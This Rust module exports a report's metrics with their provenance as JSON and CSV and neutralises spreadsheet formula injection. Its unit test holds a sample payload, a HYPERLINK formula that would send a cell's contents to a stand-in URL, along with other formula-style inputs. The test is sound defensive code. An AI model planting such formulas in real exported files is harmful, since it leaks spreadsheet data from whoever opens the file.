//! Provenance: every figure with its definition, period and source, as data
//! (`output/data/metrics.json` and `.csv`) and as the 数据说明 appendix of the site and PDF.

use std::collections::HashSet;
use std::sync::Arc;

use crate::content::document::{Block, Document, Inline, Node, walk};
use crate::metrics::{Facet, Metrics};

/// One figure as the data files and the appendix list it: its provenance record.
pub(crate) use crate::content::provenance::Provenance as Row;

/// The figures the document prints, in the order a reader meets them (text and charts), each
/// once, as content resolved them: no metric is looked up again here.
pub(crate) fn used(doc: &Document) -> Vec<Row> {
    let mut records: Vec<Arc<Row>> = Vec::new();
    let mut collect = |node: Node<'_>| match node {
        Node::Inline(Inline::Figure { source: Some(p), .. }) => records.push(Arc::clone(p)),
        Node::Block(Block::Chart { figures, .. }) => records.extend(figures.iter().cloned()),
        _ => {}
    };
    for ch in &doc.chapters {
        walk(&ch.blocks, &mut collect);
        for f in &ch.footnotes {
            walk(&f.blocks, &mut collect);
        }
    }
    let mut seen = HashSet::new();
    records.into_iter().filter(|p| seen.insert((p.id.clone(), p.facet))).map(Arc::unwrap_or_clone).collect()
}

/// Adds `data/metrics.json` and `data/metrics.csv`: every metric, used or not.
pub(crate) fn render(
    used: &[Row],
    metrics: &Metrics,
    locale: crate::input::Locale,
) -> crate::input::hinted::HintedResult<Data> {
    let used_ids: HashSet<&str> = used.iter().map(|r| r.id.as_str()).collect();
    let rows: Vec<Row> = metrics
        .iter()
        .filter_map(|m| {
            let mut row = Row::of(m, Facet::Value, locale)?;
            // A metric's row names every range it was read from: value, series, parts.
            row.cells = m.cells.all().join("; ");
            row.used = used_ids.contains(m.id.as_str());
            Some(row)
        })
        .collect();
    let mut json = serde_json::to_string_pretty(&rows).map_err(|e| e.to_string())?;
    json.push('\n');

    let mut csv = csv::Writer::from_writer(Vec::new());
    for r in &rows {
        csv.serialize(defused(r)).map_err(|e| format!("cannot write metrics.csv: {e}"))?;
    }
    let bytes = csv.into_inner().map_err(|e| format!("cannot write metrics.csv: {e}"))?;
    // A byte-order mark, so that Excel on Chinese Windows opens the file as UTF-8.
    let mut with_bom = b"\xEF\xBB\xBF".to_vec();
    with_bom.extend(bytes);
    Ok(Data { json, csv: with_bom })
}

/// A row whose every text field a spreadsheet would take for a formula is made plain text
/// (OWASP's "CSV injection"): a label that arrives from another office as
/// `=HYPERLINK(…)` must not run when the office opens `metrics.csv` in Excel or WPS.
fn defused(r: &Row) -> Row {
    let mut r = r.clone();
    for field in [
        &mut r.id,
        &mut r.label,
        &mut r.value,
        &mut r.unit,
        &mut r.approx,
        &mut r.phrase,
        &mut r.period,
        &mut r.period_from,
        &mut r.period_to,
        &mut r.source,
        &mut r.cells,
        &mut r.owner,
        &mut r.note,
        &mut r.series,
        &mut r.change,
        &mut r.change_amount,
    ] {
        *field = defuse(field);
    }
    r
}

/// A field as a spreadsheet must read it: one that begins with `=`, `+`, `-`, `@`, a tab or
/// a line break gets a leading `'`, which shows it as text, unless it is a plain number
/// (−5 stays a number a spreadsheet can add up).
pub(crate) fn defuse(field: &str) -> String {
    let risky = field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
    let number = {
        let digits = field.strip_prefix('-').unwrap_or(field);
        let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
        !whole.is_empty()
            && whole.chars().all(|c| c.is_ascii_digit())
            && !fraction.is_empty()
            && fraction.chars().all(|c| c.is_ascii_digit())
    };
    if risky && !number { format!("'{field}") } else { field.to_string() }
}

/// The data files of every metric: JSON, and CSV for spreadsheets.
#[derive(Debug)]
pub(crate) struct Data {
    pub json: String,
    pub csv: Vec<u8>,
}

#[cfg(test)]
mod tests {
    use super::defuse;

    #[test]
    fn fields_a_spreadsheet_would_run_are_made_text_and_numbers_stay_numbers() {
        assert_eq!(defuse("=HYPERLINK(\"http://x\"&A1,\"点击\")"), "'=HYPERLINK(\"http://x\"&A1,\"点击\")");
        for risky in ["+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"] {
            assert!(defuse(risky).starts_with('\''), "{risky:?}");
        }
        for plain in ["-5", "-3.95", "545", "收案", "2023: 1; 2024: 2", "a=b"] {
            assert_eq!(defuse(plain), plain);
        }
    }
}
